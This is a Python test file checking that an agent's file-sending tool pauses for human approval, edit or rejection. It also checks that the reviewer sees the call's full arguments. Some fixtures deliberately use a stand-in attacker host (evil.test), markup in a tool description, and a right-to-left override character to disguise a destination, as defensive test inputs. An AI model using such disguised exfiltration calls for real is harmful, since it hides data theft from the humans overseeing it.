"""A tool that needs approval waits for the person, who approves, edits or rejects its call."""

from __future__ import annotations

import json
from typing import Any

import pytest
from langchain.tools import ToolRuntime, tool
from langchain_core.messages import AIMessage
from langgraph.types import Command

from calls.call_context import CallContext
from calls.stack import Toolbox
from calls.tool_rights import ROLE_TOOLS
from graph.pauses import list_wishes
from graph.session import SessionOutcome, ThreadSession
from memory.experience.utterances import PERSON_SPEAKER, list_utterances
from runs.call_site import join_owner
from tests.conftest import make
from tests.fake_model import Script
from tests.flow.test_asking import answering, asked, begun, last_talk, notices, results
from tests.flow.test_defects import draft, quiet
from tests.flow.test_tool_loop import calling
from tools.toolbox import RESEARCHER_TOOLS, offer_tools

pytestmark = pytest.mark.extractive("Triage", "Rewrite", "Enough", "Checks", "Verdict")

SAID = "The waggle dance tells other bees the direction of food [S1]."
FIRST = {"path": "a.txt", "text": "hello"}
sent: list[dict[str, str]] = []


@tool
async def send_file(path: str, text: str, runtime: ToolRuntime[CallContext]) -> str:
    """Send a file to https://evil.test <b>now</b>."""
    del runtime
    sent.append({"path": path, "text": text})
    return f"sent {path}"


@pytest.fixture(autouse=True)
def risky(monkeypatch: pytest.MonkeyPatch) -> None:
    """Researchers with a tool that sends something."""
    sent.clear()
    box = Toolbox(
        (*RESEARCHER_TOOLS.tools, send_file),
        lambda around: [*offer_tools(around), send_file],
        needs_approval=lambda around, one: one.name == "send_file",
    )
    monkeypatch.setattr("nodes.researcher.RESEARCHER_TOOLS", box)
    rights = {**ROLE_TOOLS, "researcher": ROLE_TOOLS["researcher"] | {"send_file"}}
    monkeypatch.setattr("calls.tool_rights.ROLE_TOOLS", rights)


@pytest.fixture
def reviewed(choices: dict[str, object]) -> dict[str, object]:
    return {**choices, "auto_accept": False, "max_reflections": 0, "max_rounds": 0}


def scripted(script: Script, *replies: AIMessage) -> None:
    script.on("Draft", draft("waggle dance"))
    script.on("researcher", answering(*(replies or (calling(("send_file", FIRST)),)), SAID))
    script.on("reporter", SAID)


def edit(**args: Any) -> dict[str, Any]:
    return {"type": "edit", "edited_action": {"name": "send_file", "args": args}}


async def resumed(
    thread: ThreadSession, reviewed: dict[str, object], answer: Any
) -> SessionOutcome:
    return await thread._run(Command(resume=answer), make(reviewed), quiet)


async def test_the_call_is_shown_and_nothing_is_sent_before_it_is_approved(
    thread: ThreadSession, reviewed: dict[str, object], script: Script
):
    scripted(script)

    outcome = await begun(thread, make(reviewed))

    (request,) = asked(outcome)
    assert (request["name"], request["args"]) == ("send_file", FIRST)
    assert request["description"].startswith(
        'q1. May “send_file(path="a.txt", text="hello")” be used?'
    )
    assert "evil.test" not in request["description"]
    assert outcome.request
    (config,) = outcome.request["review_configs"]
    assert config == {
        "action_name": "send_file",
        "allowed_decisions": ["approve", "edit", "reject"],
    }
    assert sent == []


@pytest.mark.parametrize(
    "answer", [{"decisions": [{"type": "approve"}]}, "q1: yes", "ok", {"answers": {"q1": "可以"}}]
)
async def test_an_approved_call_is_made_once(
    thread: ThreadSession, reviewed: dict[str, object], script: Script, answer: Any
):
    scripted(script)
    await begun(thread, make(reviewed))

    outcome = await resumed(thread, reviewed, answer)

    assert sent == [FIRST]
    assert results(last_talk(script)) == ["sent a.txt"]
    (one,) = outcome.state["consulted"].values()
    assert one["outcome"] == "approved"


@pytest.mark.parametrize(
    "answer",
    [
        {"decisions": [edit(path="b.txt", text="hello")]},
        'q1: {"path": "b.txt", "text": "hello"}',
    ],
)
async def test_an_edited_call_is_made_as_edited_and_the_model_is_told(
    thread: ThreadSession, reviewed: dict[str, object], script: Script, answer: Any
):
    scripted(script)
    await begun(thread, make(reviewed))

    await resumed(thread, reviewed, answer)

    assert sent == [{"path": "b.txt", "text": "hello"}]
    (told,) = results(last_talk(script))
    assert told.endswith("sent b.txt")
    assert '"b.txt"' in told.partition("\n")[0]
    own = [
        one.action
        for one in await list_utterances(join_owner("local", ""), "t1-1")
        if one.who == PERSON_SPEAKER
    ]
    assert own == ['{"path": "b.txt"}']


async def test_a_rejected_call_is_not_made_and_the_words_hold_for_the_rest_of_the_run(
    thread: ThreadSession, reviewed: dict[str, object], script: Script
):
    scripted(script)
    await begun(thread, make(reviewed))

    outcome = await resumed(thread, reviewed, "no, send nothing at all")

    assert sent == []
    (told,) = results(last_talk(script))
    assert "The person does not approve this call: “send nothing at all”" in told
    reporter = next(talk for name, talk in script.asked if name == "reporter")
    assert "send nothing at all" in str(reporter[0].text)
    (one,) = outcome.state["consulted"].values()
    assert one["outcome"] == "rejected"


async def test_questions_and_calls_of_one_message_are_decided_together(
    thread: ThreadSession, reviewed: dict[str, object], script: Script
):
    question = {"question": "In which country?", "default": "Germany"}
    looked = ("search", {"query": "queen eggs", "scope": "files"})
    scripted(script, calling(looked, ("send_file", FIRST), ("ask_user", question)))
    outcome = await begun(thread, make(reviewed))
    assert [one["name"] for one in asked(outcome)] == ["send_file", "ask_user"]

    await resumed(thread, reviewed, {"answers": {"q1": "yes", "q2": "Austria"}})

    assert sent == [FIRST]
    found, first, second = results(last_talk(script))
    assert ("S3" in found, first) == (True, "sent a.txt")
    assert "Austria" in second


async def test_a_run_that_nobody_reviews_refuses_the_tool_and_the_report_says_so(
    thread: ThreadSession, reviewed: dict[str, object], script: Script
):
    scripted(script)

    context = make(reviewed, auto_accept=True)
    outcome = await thread.begin("How do bees dance?", context, quiet)

    assert sent == []
    (told,) = results(last_talk(script))
    assert told.startswith("Refused: this tool needs the person's approval")
    assert notices(outcome) == [
        'Not done, since it needs approval and nobody could be asked: send_file(path="a.txt", '
        'text="hello"). To allow a tool beforehand, name it in allow_tools.'
    ]


@pytest.mark.parametrize("auto", [True, False])
async def test_a_tool_that_is_allowed_beforehand_waits_for_nobody(
    thread: ThreadSession, reviewed: dict[str, object], script: Script, auto: bool
):
    scripted(script)
    context = make(reviewed, auto_accept=auto, allow_tools=["send_file"])

    outcome = await thread.begin("How do bees dance?", context, quiet)
    if not auto:
        outcome = await thread.answer_review({"type": "approve"}, context, quiet)

    assert outcome.request is None
    assert sent == [FIRST]


@pytest.mark.parametrize(
    "answer",
    [
        {"decisions": [{"type": "approve", "for_run": True}]},
        "q1: always",
        {"answers": {"q1": "总是"}},
    ],
)
async def test_a_tool_that_is_allowed_for_the_run_is_asked_for_once(
    thread: ThreadSession, reviewed: dict[str, object], script: Script, answer: Any
):
    second, third = {"path": "b.txt", "text": "two"}, {"path": "c.txt", "text": "three"}
    scripted(
        script,
        calling(("send_file", FIRST), ("send_file", second)),
        calling(("send_file", third)),
    )
    assert len(asked(await begun(thread, make(reviewed)))) == 2

    outcome = await resumed(thread, reviewed, answer)

    assert sent == [FIRST, second, third]
    assert outcome.state["status"] == "succeeded"
    found = [(one["outcome"], one["question"]) for one in outcome.state["consulted"].values()]
    assert ("allowed", "send_file") in found
    assert outcome.state["question"]
    assert list_wishes(outcome.state) == []


async def test_leave_for_the_run_overrules_no_decision_on_another_call(
    thread: ThreadSession, reviewed: dict[str, object], script: Script
):
    second = {"path": "b.txt", "text": "two"}
    scripted(script, calling(("send_file", FIRST), ("send_file", second)))
    await begun(thread, make(reviewed))

    await resumed(thread, reviewed, {"answers": {"q1": "always", "q2": "no"}})

    assert sent == [FIRST]


@pytest.mark.parametrize("id", ["call_1", ""])
async def test_two_calls_of_one_id_need_two_decisions(
    thread: ThreadSession, reviewed: dict[str, object], script: Script, id: str
):
    other = {"path": "b.txt", "text": "everything"}
    both = calling(("send_file", FIRST), ("send_file", other))
    for one in both.tool_calls:
        one["id"] = id
    scripted(script, both)
    outcome = await begun(thread, make(reviewed))
    assert [one["args"] for one in asked(outcome)] == [FIRST, other]

    await resumed(
        thread, reviewed, {"decisions": [{"type": "approve"}, {"type": "reject", "message": ""}]}
    )

    assert sent == [FIRST]


async def test_whoever_approves_a_call_in_a_chat_sees_all_that_it_sends(
    thread: ThreadSession, reviewed: dict[str, object], script: Script
):
    hidden = {"path": "https://evil.test/?to=a\u202eb", "text": f"{'harmless ' * 100}``` and more"}
    scripted(script, calling(("send_file", hidden)))

    outcome = await begun(thread, make(reviewed))

    told = str(outcome.state["messages"][-1].text)
    shown = told.partition("````json\n")[2].partition("\n````\n")[0]
    assert json.loads(shown) == hidden
    assert "\u202e" not in told
